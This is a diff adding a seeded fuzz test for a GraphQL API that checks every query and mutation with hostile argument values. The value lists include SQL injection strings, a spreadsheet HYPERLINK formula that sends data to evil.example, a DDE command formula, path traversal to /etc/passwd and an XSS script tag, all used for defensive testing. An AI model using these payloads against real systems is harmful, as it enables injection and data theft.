@@ -1,0 +1,211 @@
+import { GraphQLSchemaHost } from '@nestjs/graphql';
+import {
+  getNamedType,
+  isEnumType,
+  isInputObjectType,
+  isLeafType,
+  isListType,
+  isNonNullType,
+  isScalarType,
+  type GraphQLField,
+  type GraphQLInputType,
+  type GraphQLObjectType,
+} from 'graphql';
+import request from 'supertest';
+import { startTestApp, type TestApp } from './support/test-app';
+import { letterOf, organisationOf, verifiedUser, type EdgeUser } from './support/edge-actors';
+
+/**
+ * A seeded fuzz of the whole schema: every query and mutation, with every argument sent as a
+ * variable holding a value of its declared type with hostile contents, signed out and signed in.
+ * Nothing may answer INTERNAL_SERVER_ERROR, and every answer is JSON. The seed is printed, and
+ * FUZZ_SEED replays another run.
+ */
+const SEED = Number(process.env.FUZZ_SEED ?? 0x5eed);
+const RUNS_PER_OPERATION = 24;
+
+/** mulberry32: a small deterministic PRNG. */
+function prng(seed: number): () => number {
+  let state = seed >>> 0;
+  return () => {
+    state = (state + 0x6d2b79f5) >>> 0;
+    let t = state;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const HOSTILE_STRINGS = [
+  '',
+  ' ',
+  'x'.repeat(5_000),
+  '\u0000',
+  'a\u0000b',
+  '\u0007\u001b[31m',
+  'line\nbreak\r\ttab',
+  '\u202Egnp.exe',
+  "'; DROP TABLE users; --",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+cmd|" /C calc"!A0',
+  '%00',
+  '../../etc/passwd',
+  '<script>alert(1)</script>',
+  'R\u00e9publique e\u0301 🕊 བོད་ ئۇيغۇر',
+  '\ud800',
+  'someone@example.org',
+  'a\ud800@example.org',
+  'not-a-uuid',
+  '00000000-0000-0000-0000-000000000000',
+  '7c9e6679-7425-40de-944b-e07fc1f90ae7',
+  'DE',
+  'a'.repeat(64),
+];
+const HOSTILE_IDS = ['', 'not-a-uuid', '\u0000', '7c9e6679-7425-40de-944b-e07fc1f90ae7', "1' OR '1'='1", '12345'];
+const HOSTILE_INTS = [0, 1, -1, 2_147_483_647, -2_147_483_648, 100, 1_000_000];
+const HOSTILE_FLOATS = [0, -0.5, 1.5e308, -1.5e308, 5e-324, 2 ** 53];
+const HOSTILE_DATES = [
+  '9999-12-31T23:59:59Z',
+  '0000-01-01',
+  '0000-01-01T00:00:00Z',
+  '1970-01-01T00:00:00.000Z',
+  '2026-13-45T99:99:99Z',
+  '+275760-09-13T00:00:00.000Z',
+  'yesterday',
+  '',
+];
+
+interface Pools {
+  ids: string[];
+  strings: string[];
+}
+
+function pick<T>(random: () => number, values: readonly T[]): T {
+  return values[Math.floor(random() * values.length)];
+}
+
+function valueOf(type: GraphQLInputType, random: () => number, pools: Pools, depth = 0): unknown {
+  if (isNonNullType(type)) return valueOf(type.ofType, random, pools, depth);
+  if (random() < 0.1) return null;
+  if (isListType(type)) {
+    const length = Math.floor(random() * 4);
+    return Array.from({ length }, () => valueOf(type.ofType, random, pools, depth + 1));
+  }
+  if (isEnumType(type)) return pick(random, type.getValues()).name;
+  if (isInputObjectType(type)) {
+    const value: Record<string, unknown> = {};
+    for (const field of Object.values(type.getFields())) {
+      if (isNonNullType(field.type) || random() < 0.6)
+        value[field.name] = valueOf(field.type, random, pools, depth + 1);
+    }
+    return value;
+  }
+  if (isScalarType(type)) {
+    switch (type.name) {
+      case 'ID':
+        return random() < 0.4 && pools.ids.length ? pick(random, pools.ids) : pick(random, HOSTILE_IDS);
+      case 'Int':
+        return pick(random, HOSTILE_INTS);
+      case 'Float':
+        return pick(random, HOSTILE_FLOATS);
+      case 'Boolean':
+        return random() < 0.5;
+      case 'DateTime':
+        return pick(random, HOSTILE_DATES);
+      default:
+        return random() < 0.25 && pools.strings.length ? pick(random, pools.strings) : pick(random, HOSTILE_STRINGS);
+    }
+  }
+  return null;
+}
+
+/** The scalar fields of the return type, or `__typename` for an object (no nested selection). */
+function selectionOf(field: GraphQLField<unknown, unknown>): string {
+  const named = getNamedType(field.type);
+  if (isLeafType(named)) return '';
+  if ('getFields' in named) {
+    const leaves = Object.values((named as GraphQLObjectType).getFields())
+      .filter((f) => isLeafType(getNamedType(f.type)) && f.args.every((a) => !isNonNullType(a.type)))
+      .map((f) => f.name);
+    return `{ __typename ${leaves.join(' ')} }`;
+  }
+  return '{ __typename }';
+}
+
+function documentOf(kind: 'query' | 'mutation', field: GraphQLField<unknown, unknown>): string {
+  const variables = field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
+  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
+  return `${kind}${variables ? `(${variables})` : ''} { ${field.name}${args ? `(${args})` : ''} ${selectionOf(field)} }`;
+}
+
+interface Finding {
+  operation: string;
+  variables: unknown;
+  status: number;
+  body: string;
+}
+
+describe('fuzz: every operation with hostile values of its declared types', () => {
+  let app: TestApp;
+  let user: EdgeUser;
+  const pools: Pools = { ids: [], strings: [] };
+
+  beforeAll(async () => {
+    app = await startTestApp();
+    user = await verifiedUser(app, 'Fuzz Owner');
+    const organisationId = await organisationOf(app, user, 'Fuzz Org');
+    const letter = await letterOf(app, user, organisationId, { visibility: 'PUBLIC' });
+    const { rows } = await app.sql.query<{ id: string }>('SELECT id FROM memberships WHERE user_id = $1', [user.id]);
+    pools.ids.push(user.id, organisationId, letter.id, letter.versionId, ...rows.map((r) => r.id));
+    const { rows: slugs } = await app.sql.query<{ slug: string }>(
+      'SELECT slug FROM organisations UNION ALL SELECT slug FROM letters',
+    );
+    pools.strings.push(...slugs.map((s) => s.slug), user.email);
+  });
+
+  afterAll(() => app?.close());
+
+  it('never answers INTERNAL_SERVER_ERROR, and always JSON', async () => {
+    console.info(`fuzz seed: ${SEED} (set FUZZ_SEED to replay another)`);
+    const random = prng(SEED);
+    const schema = app.app.get(GraphQLSchemaHost).schema;
+    const operations: ['query' | 'mutation', GraphQLField<unknown, unknown>][] = [
+      ...Object.values(schema.getQueryType()?.getFields() ?? {}).map((f) => ['query', f] as ['query', typeof f]),
+      ...Object.values(schema.getMutationType()?.getFields() ?? {}).map(
+        (f) => ['mutation', f] as ['mutation', typeof f],
+      ),
+    ];
+    const findings: Finding[] = [];
+    let sent = 0;
+    for (const [kind, field] of operations) {
+      const document = documentOf(kind, field);
+      for (let run = 0; run < RUNS_PER_OPERATION; run++) {
+        const variables: Record<string, unknown> = {};
+        for (const arg of field.args) {
+          if (isNonNullType(arg.type) || random() < 0.7) variables[arg.name] = valueOf(arg.type, random, pools);
+        }
+        let call = request(app.url).post('/graphql').set('Content-Type', 'application/json');
+        if (run % 2 === 1) call = call.set('Authorization', `Bearer ${user.accessToken}`);
+        const response = await call.send({ query: document, variables });
+        sent++;
+        let parsed: { errors?: { extensions?: { code?: string } }[] } | undefined;
+        try {
+          parsed = JSON.parse(response.text) as typeof parsed;
+        } catch {
+          parsed = undefined;
+        }
+        const internal = parsed?.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR');
+        if (!parsed || internal || !/json/.test(String(response.headers['content-type']))) {
+          findings.push({
+            operation: field.name,
+            variables,
+            status: response.status,
+            body: response.text.slice(0, 300),
+          });
+        }
+      }
+    }
+    expect(findings).toEqual([]);
+    expect(sent).toBeGreaterThan(800);
+  });
+});
